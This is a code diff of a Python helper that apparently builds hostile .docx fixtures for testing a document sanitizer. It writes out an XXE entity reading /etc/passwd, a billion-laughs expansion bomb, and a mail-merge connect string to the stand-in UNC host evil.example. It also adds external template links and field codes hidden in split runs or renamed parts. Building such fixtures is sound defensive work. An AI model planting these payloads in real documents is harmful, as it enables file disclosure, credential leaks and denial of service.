@@ -14,6 +14,7 @@ from docx.oxml.ns import nsdecls
 REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
+MAIL_MERGE = '<w:mailMerge><w:connectString w:val="Provider=x;Data Source=\\\\evil.example\\a"/></w:mailMerge>'
 ENTITY = '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
 LAUGHS = "<!DOCTYPE w [<!ENTITY a 'ha'>{}]>".format(
     "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefghi", "bcdefghij", strict=True))
@@ -67,9 +68,9 @@ def related(kind: str, target: str, *, external: bool = True, part: str = "word/
     )
 
 
-def with_template(target: str) -> bytes:
+def with_template(target: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
     held = parts()
-    held["word/_rels/settings.xml.rels"] = (
+    held[part] = (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="{target}" TargetMode="External"/>'
         "</Relationships>"
@@ -77,11 +78,47 @@ def with_template(target: str) -> bytes:
     return packed(held)
 
 
-def with_field(*runs: str) -> bytes:
+def field(*runs: str, tag: str = "instrText") -> str:
     """A paragraph with a field whose code is cut into runs."""
-    code = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
+    code = "".join(f'<w:r><w:{tag} xml:space="preserve">{run}</w:{tag}></w:r>' for run in runs)
     begin, end = ('<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind for kind in ("begin", "end"))  # noqa: UP031
-    return changed("word/document.xml", "<w:sectPr", f"<w:p>{begin}{code}{end}</w:p><w:sectPr")
+    return f"<w:p>{begin}{code}{end}</w:p>"
+
+
+def with_field(*runs: str, tag: str = "instrText") -> bytes:
+    return changed("word/document.xml", "<w:sectPr", f"{field(*runs, tag=tag)}<w:sectPr")
+
+
+def _renamed(old: str, new: str, held: dict[str, bytes]) -> dict[str, bytes]:
+    """The part under another name, in the package and wherever it is named."""
+    base = old.rpartition("/")[2]
+    named = ((f"/{old}".encode(), f"/{new}".encode()), (f'"{old}"'.encode(), f'"{new}"'.encode()))
+    local = (f'Target="{base}"'.encode(), f'Target="/{new}"'.encode())
+    renamed = {}
+    for name, content in held.items():
+        for before, after in (*named, local):
+            content = content.replace(before, after) if name.endswith((".rels", ".xml")) else content
+        renamed[new if name == old else name] = content
+    return renamed
+
+
+def moved_to(place: str, code: str) -> bytes:
+    """The document in another folder than Word's own, with a field."""
+    held = parts()
+    held["word/document.xml"] = held["word/document.xml"].replace(b"<w:sectPr", field(code).encode() + b"<w:sectPr", 1)
+    return packed(_renamed("word/document.xml", place, held))
+
+
+def renamed_header(place: str, code: str) -> bytes:
+    """A header whose name does not say that it is XML, with a field."""
+    held = parts()
+    held["word/header1.xml"] = held["word/header1.xml"].replace(b"</w:hdr>", field(code).encode() + b"</w:hdr>")
+    return packed(_renamed("word/header1.xml", place, held))
+
+
+def typed(line: str) -> bytes:
+    """One more line in the list of types, before the others."""
+    return changed("[Content_Types].xml", "<Default", f"{line}<Default")
 
 
 def adding(name: str, content: bytes = b"x") -> bytes:
